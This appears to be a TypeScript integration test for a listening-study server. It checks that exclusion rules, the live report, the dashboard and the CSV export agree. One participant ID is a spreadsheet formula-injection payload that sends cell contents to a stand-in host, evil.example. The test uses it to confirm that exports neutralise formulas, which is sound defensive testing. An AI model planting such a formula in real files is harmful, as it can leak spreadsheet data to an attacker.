/**
 * One analysis path (analysis-spec §1): a study with every exclusion rule switched on, listeners
 * who trip each rule, run through the real listener API on a real server and SQLite file; the
 * live report and the dashboard must equal `npm run analyze` on the study's export.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundle } from '../../analysis/bundle';
import { StudyDefinition } from '../../contract/study-definition';
import type { VoteBody } from '../../contract/listener';
import { call, voteFor } from '../testing/client';
import { startTestServer, type TestServer } from '../testing/server';

const run = promisify(execFile);
const tsx = join(process.cwd(), 'node_modules/.bin/tsx');
const STUDY = 'rules';
const FORMULA_PID = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let server: TestServer;
let analyst: string;
let dir: string;

interface Listener {
  pid: string;
  screening?: boolean;
  /** answer attention checks wrongly */
  wrongAttention?: boolean;
  /** what this listener's votes record, by trial number (0-based) */
  vote?: (n: number) => Partial<VoteBody>;
  /** trials to answer (default all) */
  answers?: number;
}

// Thresholds of the study below; each listener after the first three trips the rule named.
const LISTENERS: Record<string, Listener> = {
  good1: { pid: 'P-good-1', screening: true },
  good2: { pid: 'P-good-2', screening: true, vote: (n) => ({ responseMs: 2000 + 97 * n, hiddenMs: n === 3 ? 900 : 0 }) },
  good3: { pid: FORMULA_PID, screening: true, vote: (n) => ({ heardToEnd: n !== 2 }) }, // one violation is allowed
  attention: { pid: 'P-attention', screening: true, wrongAttention: true },
  fast: { pid: 'P-fast', screening: true, vote: () => ({ responseMs: 350 }) },
  listening: { pid: 'P-listening', screening: true, vote: (n) => ({ heardToEnd: n % 3 !== 0 }) },
  hidden: { pid: 'P-hidden', screening: true, vote: (n) => ({ hiddenMs: n < 3 ? 4000 : 0 }) }, // trial 0 may be practice
  screening: { pid: 'P-screening', screening: false },
  fastAndHidden: { pid: '+P-both', screening: true, vote: () => ({ responseMs: 400, hiddenMs: 1500 }) },
  unscreened: { pid: '-1.5' },
  startedOnly: { pid: '@P-idle', answers: 0 },
};

async function listen(name: string, l: Listener): Promise<void> {
  const start = await call(`${server.url}/api/sessions`, { body: { study: STUDY, external: { PROLIFIC_PID: l.pid, STUDY_ID: 'S1', OTHER: 'not kept' } } });
  expect(start.status, start.text).toBe(201);
  const token = start.body.token as string;
  if (l.screening !== undefined) {
    const body = { kind: 'antiphase', passed: l.screening, correct: l.screening ? 6 : 2, trials: 6, attempts: 1, userAgent: 'test', audioOutput: {} };
    expect((await call(`${server.url}/api/session/screening`, { token, body })).status).toBe(200);
  }
  const listener = server.app.store.sessions.byToken(token)!;
  const item = server.app.db.prepare(
    'SELECT a.first, i.kind, i.expected FROM assignments a JOIN items i ON i.id = a.item_id WHERE a.listener_id = ? AND a.position = ?',
  );
  const salt = name.length;
  for (let n = 0; n < (l.answers ?? Infinity); n++) {
    const state = (await call(`${server.url}/api/session`, { token })).body;
    if (!state.trial) break;
    const { position } = state.trial;
    const { first, kind, expected } = item.get(listener.id, position) as { first: 'a' | 'b'; kind: string; expected: 'a' | 'b' | null };
    // Attention: the right caption (or the wrong one); pairs: a spread of choices so items disagree.
    const wantA = kind === 'attention' ? (expected === 'a') !== !!l.wrongAttention : (position * 7 + salt) % 3 !== 0;
    const choice = (first === 'a') === wantA ? 1 : 2;
    const vote = await call(`${server.url}/api/session/votes`, { token, body: voteFor(position, choice, { responseMs: 2500, ...l.vote?.(n) }) });
    expect(vote.status, vote.text).toBe(200);
  }
}

async function analyzeCli(bundleDir: string, ...flags: string[]): Promise<{ report: any; stderr: string }> {
  const { stdout, stderr } = await run(tsx, [join('analysis', 'cli.ts'), bundleDir, '--format', 'json', ...flags]);
  return { report: JSON.parse(stdout), stderr };
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'earmark-live-offline-'));
  server = await startTestServer({ studies: [{ study: STUDY, pairs: 8, attention: 2, practice: 1 }] });
  analyst = (await server.app.store.accessTokens.create('analyst')).token;
  // Every exclusion rule on, and a split threshold other than the default.
  const db = server.app.db;
  const stored = JSON.parse((db.prepare('SELECT definition FROM studies WHERE id = ?').get(STUDY) as { definition: string }).definition);
  const definition = StudyDefinition.parse({
    ...stored,
    exclusion: { minAttention: 0.75, minMedianResponseMs: 1000, maxListeningViolations: 1, maxHiddenMs: 5000, excludeFailedScreening: true },
    analysis: { splitThreshold: 0.8 },
  });
  db.prepare('UPDATE studies SET definition = ? WHERE id = ?').run(JSON.stringify(definition), STUDY);
  // A negative judge score: numeric columns must stay numbers in the CSV and in the analysis.
  db.prepare("UPDATE study_judge_scores SET score = -1.5 WHERE rowid = (SELECT min(rowid) FROM study_judge_scores WHERE utterance_id LIKE 'ravdess:%rules-2')").run();
  for (const [name, l] of Object.entries(LISTENERS)) await listen(name, l);
});
afterAll(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

describe('live report = npm run analyze on the export', () => {
  it('gives the same JSON, with every rule run and each tripped', async () => {
    const live = await call(`${server.url}/api/reports/${STUDY}`, { token: analyst });
    expect(live.status, live.text).toBe(200);
    const exported = await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst });
    expect(exported.status, exported.text).toBe(200);
    const bundleDir = join(dir, 'api');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(exported.body as Record<string, string>)) await writeFile(join(bundleDir, name), text);

    const { report } = await analyzeCli(bundleDir);
    expect(live.body).toEqual(report);

    const l = report.listeners;
    expect(l.total).toBe(10);
    expect(l.excluded_by_reason).toEqual({ attention: 1, fast: 2, listening: 1, hidden: 2, screening: 1 });
    const reasons = Object.fromEntries(l.excluded.map((e: { listener_id: string; reasons: string[] }) => [e.listener_id, e.reasons]));
    expect(Object.values(reasons).map((r) => (r as string[]).join('+')).sort()).toEqual(['attention', 'fast', 'fast+hidden', 'hidden', 'listening', 'screening']);
    expect(l.retained).toBe(4);
    // The unscreened listener's screening could not run: neither pass nor fail.
    expect(l.not_run_by_reason).toEqual({ screening: 1 });
    expect(report.reliability.coding).toMatch(/system_a.*items\.csv/);
    expect(report.reliability.brennan_prediger_kappa).toEqual(expect.any(Number));
    // Flags override study.json: a lower split threshold splits no more items; a looser hidden limit excludes nobody for it.
    const overridden = await analyzeCli(bundleDir, '--split-threshold', '0.51', '--max-hidden-ms', '100000');
    expect(overridden.report.listeners.excluded_by_reason.hidden).toBeUndefined();
    expect(overridden.report.reliability.split).toBeLessThanOrEqual(report.reliability.split);
  });

  it('the dashboard shows the same listeners, exclusions and statistics', async () => {
    const dash = (await call(`${server.url}/api/studio/studies/${STUDY}/dashboard`, { token: analyst })).body;
    const exported = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
    const bundleDir = join(dir, 'dash');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(exported)) await writeFile(join(bundleDir, name), text);
    const { report } = await analyzeCli(bundleDir);
    expect(dash.listeners).toMatchObject({
      voted: report.listeners.total,
      retained: report.listeners.retained,
      excluded: report.listeners.excluded.length,
      excludedByReason: report.listeners.excluded_by_reason,
      notRunByReason: report.listeners.not_run_by_reason,
    });
    expect(dash.listeners.rules.map((r: { reason: string }) => r.reason)).toEqual(['attention', 'fast', 'listening', 'hidden', 'screening']);
    expect(dash.reliability).toEqual({
      items: report.reliability.items,
      votes: report.reliability.votes,
      krippendorffAlpha: report.reliability.krippendorff_alpha,
      fleissKappa: report.reliability.fleiss_kappa,
      brennanPredigerKappa: report.reliability.brennan_prediger_kappa,
      meanPairwiseAgreement: report.reliability.mean_pairwise_agreement,
      coding: report.reliability.coding,
    });
    expect(dash.judges).toEqual(report.judges.map((j: any) => ({ judge: j.judge, items: j.n, agreement: j.agreement, ci95: j.ci95, cohenKappa: j.cohen_kappa })));
    expect(dash.attention.passRate).toBe(report.listeners.attention_pass_rate);
    expect(dash.screening).toEqual({ kind: 'antiphase', passed: 8, failed: 1, notRun: 2 });
  });

  it('npm run export writes the same files as the API (study.json differing only in its export time)', async () => {
    const cliDir = join(dir, 'cli');
    const r = await run('npm', ['run', '--silent', 'export', '--', STUDY, cliDir, '--data', server.dataDir]);
    expect(r.stdout).toMatch(/Wrote \d+ items, \d+ votes, \d+ judge scores, 11 listeners/);
    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
    expect((await readdir(cliDir)).sort()).toEqual(Object.keys(api).sort());
    for (const [name, text] of Object.entries(api)) {
      const written = await readFile(join(cliDir, name), 'utf8');
      if (name === 'study.json') expect({ ...JSON.parse(written), exportedAt: null }).toEqual({ ...JSON.parse(text), exportedAt: null });
      else expect(written, name).toBe(text);
    }
    const study = JSON.parse(api['study.json']);
    expect(study).toMatchObject({
      study: STUDY,
      minAttention: 0.75,
      splitThreshold: 0.8,
      rules: {
        fast: { minMedianResponseMs: 1000 },
        listening: { maxListeningViolations: 1, requirement: { mode: 'whole' } },
        hidden: { maxHiddenMs: 5000 },
        screening: { excludeFailedScreening: true },
      },
      linkParameters: ['PROLIFIC_PID', 'STUDY_ID'],
    });
    expect(new Date(study.exportedAt).toISOString()).toBe(study.exportedAt);
  });

  it('listeners.csv lists every session with its link parameters, spreadsheet formulas neutralised and read back intact', async () => {
    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
    const lines = api['listeners.csv'].split('\r\n');
    expect(lines[0]).toBe('listener_id,started_at,completed_at,screening,PROLIFIC_PID,STUDY_ID,completion_code');
    expect(lines).toHaveLength(Object.keys(LISTENERS).length + 2);
    expect(api['listeners.csv']).not.toContain('not kept');
    // Text that a spreadsheet would run as a formula starts with a quote; numbers stay numbers.
    expect(api['listeners.csv']).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const pid of ['+P-both', '-1.5', '@P-idle']) expect(api['listeners.csv']).toContain(`"'${pid}"`);
    expect(api['judge_scores.csv']).toMatch(/,-1\.5\r\n/);
    for (const line of lines.slice(1, -1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);

    const bundleDir = join(dir, 'listeners');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(api)) await writeFile(join(bundleDir, name), text);
    const bundle = await readBundle(bundleDir);
    const pids = [...bundle.listenerTable!.values()].map((l) => l.more?.PROLIFIC_PID).sort();
    expect(pids).toEqual(Object.values(LISTENERS).map((l) => l.pid).sort());
    expect(bundle.judgeScores.some((s) => s.score === -1.5)).toBe(true);
    const db = server.app.db;
    const done = db.prepare('SELECT id, completion_code FROM listeners WHERE study_id = ? AND completed_at IS NOT NULL').all(STUDY) as { id: string; completion_code: string }[];
    expect(done.length).toBe(10);
    for (const d of done) {
      const row = bundle.listenerTable!.get(d.id)!;
      expect(row.completed_at).not.toBeNull();
      expect(row.more?.completion_code).toBe(d.completion_code);
    }
    // The PROLIFIC_PID sits beside the listener's votes: same listener_id in both files.
    const good = [...bundle.listenerTable!.values()].find((l) => l.more?.PROLIFIC_PID === 'P-good-1')!;
    expect(bundle.listeners).toContain(good.listener_id);
    expect(good.screening).toBe('passed');
  });

  it('a bundle without listeners.csv and study.json stays valid; the report says which rules could not run', async () => {
    const bundleDir = join(dir, 'api');
    await rm(join(bundleDir, 'listeners.csv'));
    await rm(join(bundleDir, 'study.json'));
    const { report, stderr } = await analyzeCli(bundleDir, '--exclude-failed-screening', '--min-median-response-ms', '1000');
    expect(stderr).toMatch(/no study\.json/);
    expect(report.listeners.not_run_by_reason).toEqual({ screening: 10 });
    expect(report.listeners.excluded_by_reason).toEqual({ attention: 1, fast: 2 });
  });
});
